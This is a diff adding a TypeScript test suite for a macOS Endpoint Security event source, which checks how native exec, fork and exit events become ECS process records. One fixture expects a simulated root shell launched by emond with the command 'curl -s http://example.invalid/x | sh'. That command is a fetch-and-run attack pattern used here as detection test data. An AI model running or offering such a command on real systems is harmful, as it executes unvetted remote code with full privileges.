@@ -1,0 +1,198 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import type { ExecEvent } from '../../src/events/exec-event.js';
+import type { EsClient, NativeAddon, NativeDropInfo, NativeEvent } from '../../src/native/addon.js';
+import { EventConversionError, EventsDroppedError, EndpointSecuritySource } from '../../src/sources/endpoint-security.js';
+import { exitCode } from '../../src/sources/native-event-to-exec-event.js';
+import { EMOND, addon, deliver, emondShellExec, resetSimulator, settle, shProcess, sim } from '../native/sim-helpers.js';
+
+const sources: EndpointSecuritySource[] = [];
+afterEach(() => {
+  for (const source of sources.splice(0)) source.stop();
+  resetSimulator();
+});
+
+function startSource(options: ConstructorParameters<typeof EndpointSecuritySource>[0] = {}) {
+  const source = new EndpointSecuritySource({ addon: addon(), host: { name: 'mac-01', osVersion: '14.5' }, ...options });
+  const events: ExecEvent[] = [];
+  const errors: Error[] = [];
+  source.start((batch) => events.push(...batch), (error) => errors.push(error));
+  sources.push(source);
+  return { source, events, errors };
+}
+
+describe('EndpointSecuritySource', () => {
+  it('turns an emond → sh exec into an ECS ExecEvent', async () => {
+    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
+    const { events } = startSource();
+    deliver([emondShellExec({ target: shProcess({ tty: '/dev/ttys001' }), script: '/tmp/x.sh' })]);
+    await settle();
+    expect(events).toHaveLength(1);
+    expect(events[0]).toEqual({
+      '@timestamp': '2025-08-07T13:21:35.880814738Z',
+      event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', module: 'simulator', sequence: 1 },
+      host: { name: 'mac-01', os: { type: 'macos', version: '14.5' } },
+      process: {
+        pid: 301,
+        entity_id: '301:12:2025-08-07T13:21:35.877422Z',
+        name: 'sh',
+        executable: '/bin/sh',
+        args: ['/bin/sh', '-c', 'curl -s http://example.invalid/x | sh'],
+        args_count: 3,
+        command_line: '/bin/sh -c curl -s http://example.invalid/x | sh',
+        working_directory: '/',
+        start: '2025-08-07T13:21:35.877422Z',
+        code_signature: { exists: true, signing_id: 'com.apple.sh', trusted: true },
+        parent: { pid: 300, name: 'emond', executable: EMOND },
+      },
+      user: { id: '0', real: { id: '0' } },
+      group: { id: '0' },
+      es: {
+        message_version: 7,
+        seq_num: 1,
+        global_seq_num: 1,
+        pidversion: 12,
+        ppid: 300,
+        original_ppid: 300,
+        parent_pidversion: 7,
+        responsible_pid: 300,
+        image_before_exec: { pid: 301, pidversion: 11, executable: EMOND },
+        executable_truncated: false,
+        args_truncated: false,
+        cdhash: '28CD2C759132B07D63C3A2B377AD440A6C66098E',
+        is_platform_binary: true,
+        codesigning_flags: 0x2000_0001,
+        tty: '/dev/ttys001',
+        script: '/tmp/x.sh',
+        parent_resolution: 'source',
+      },
+    });
+  });
+
+  it('leaves the parent to the process tree when the source could not resolve it', async () => {
+    const { events } = startSource();
+    deliver([emondShellExec({ version: 3 })]);
+    await settle();
+    expect(events[0]?.process.parent).toEqual({ pid: 300 });
+    expect(events[0]?.es.parent_resolution).toBeUndefined();
+    expect(events[0]?.event.sequence).toBeUndefined();
+    // Without the parent token (version < 4) the parent is ppid.
+    expect(events[0]?.es.parent_pidversion).toBeUndefined();
+  });
+
+  it('maps fork (parent known exactly) and exit (exit code from the wait status)', async () => {
+    const { events } = startSource();
+    deliver([
+      {
+        type: 'fork',
+        process: { pid: 300, pidversion: 7, executable: EMOND },
+        child: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, startTime: { sec: 1_754_572_895, usec: 1 } },
+      },
+      { type: 'exit', process: { pid: 301, pidversion: 12, executable: '/bin/sh' }, exitStatus: 9 /* SIGKILL */ },
+    ]);
+    await settle();
+    expect(events.map((e) => [e.event.action, e.event.type])).toEqual([
+      ['fork', ['start']],
+      ['exit', ['end']],
+    ]);
+    expect(events[0]?.process).toMatchObject({
+      pid: 301,
+      entity_id: '301:11:2025-08-07T13:21:35.000001Z',
+      name: 'emond',
+      args: [],
+      args_count: 0,
+      parent: { pid: 300, name: 'emond', executable: EMOND },
+    });
+    expect(events[0]?.es.parent_resolution).toBe('source');
+    expect(events[1]?.process.exit_code).toBe(137);
+  });
+
+  it('decodes wait(2) statuses', () => {
+    expect(exitCode(0)).toBe(0);
+    expect(exitCode(1 << 8)).toBe(1);
+    expect(exitCode(255 << 8)).toBe(255);
+    expect(exitCode(15)).toBe(143);
+  });
+
+  it('reports kernel drops as an error, once per increase', async () => {
+    const { errors, source } = startSource({ client: { batchSize: 1 } });
+    deliver([emondShellExec(), emondShellExec({ seqGap: 4, globalSeqGap: 4 }), emondShellExec()]);
+    await settle(100);
+    const dropped = errors.filter((e) => e instanceof EventsDroppedError);
+    expect(dropped).toHaveLength(1);
+    expect(dropped[0]).toMatchObject({ code: 'E_ES_EVENTS_DROPPED', kernelDrops: 4, queueDrops: 0 });
+    expect(source.stats()).toMatchObject({ received: 3, delivered: 3, conversionErrors: 0 });
+  });
+
+  it('passes consumer exceptions to onError and keeps delivering', async () => {
+    const source = new EndpointSecuritySource({ addon: addon(), client: { batchSize: 1 } });
+    sources.push(source);
+    const seen: number[] = [];
+    const errors: Error[] = [];
+    source.start(
+      (batch) => {
+        seen.push(...batch.map((e) => e.process.pid));
+        if (seen.length === 1) throw new Error('sink failed');
+      },
+      (error) => errors.push(error),
+    );
+    deliver([1, 2].map((pid) => emondShellExec({ target: shProcess({ pid }) })));
+    await settle(100);
+    expect(seen).toEqual([1, 2]);
+    expect(errors.map((e) => e.message)).toEqual(['sink failed']);
+  });
+
+  it('exposes the start-up process snapshot', () => {
+    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
+    const source = new EndpointSecuritySource({ addon: addon() });
+    expect(source.listProcesses()).toEqual([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
+  });
+});
+
+describe('EndpointSecuritySource with a malformed native event', () => {
+  it('skips and counts an event it cannot convert, reporting a typed error, and keeps the rest', () => {
+    // The real addon never sends this; a stand-in client does, to exercise the source's own guard.
+    let deliverBatch: ((events: NativeEvent[], drops: NativeDropInfo) => void) | undefined;
+    const fakeClient: EsClient = {
+      start: (onBatch) => {
+        deliverBatch = onBatch;
+      },
+      stop: () => {},
+      stats: () => ({
+        received: 2,
+        delivered: 2,
+        queueDrops: 0,
+        kernelDrops: { perType: { exec: 0, fork: 0, exit: 0 }, global: 0 },
+        batches: 1,
+        maxQueueDepth: 2,
+        callbackErrors: 0,
+      }),
+      running: true,
+    };
+    const fakeAddon: NativeAddon = { ...addon(), EsClient: function FakeClient() { return fakeClient; } as never };
+    const source = new EndpointSecuritySource({ addon: fakeAddon });
+    const events: ExecEvent[] = [];
+    const errors: Error[] = [];
+    source.start((batch) => events.push(...batch), (error) => errors.push(error));
+    const valid = {
+      type: 'exit',
+      version: 4,
+      timeSec: 1,
+      timeNsec: 0,
+      handlerEntryNs: 1,
+      exitStatus: 0,
+      instigator: { pid: 1, pidversion: 1, executable: '/bin/sh', executableTruncated: false },
+      process: {
+        pid: 1, pidversion: 1, ppid: 0, originalPpid: 0, auid: 0, euid: 0, egid: 0, ruid: 0, rgid: 0,
+        codesigningFlags: 0, isPlatformBinary: false, executable: '/bin/sh', executableTruncated: false,
+        signingId: '', teamId: '', cdhash: '0'.repeat(40),
+      },
+    } satisfies NativeEvent;
+    const broken = { ...valid, process: undefined } as unknown as NativeEvent;
+    deliverBatch?.([broken, valid], { queueDrops: 0, kernelDrops: 0, kernelDropsGlobal: 0 });
+    expect(events.map((e) => e.event.action)).toEqual(['exit']);
+    expect(errors).toHaveLength(1);
+    expect(errors[0]).toBeInstanceOf(EventConversionError);
+    expect((errors[0] as EventConversionError).code).toBe('E_ES_EVENT_CONVERSION');
+    expect(source.stats().conversionErrors).toBe(1);
+  });
+});
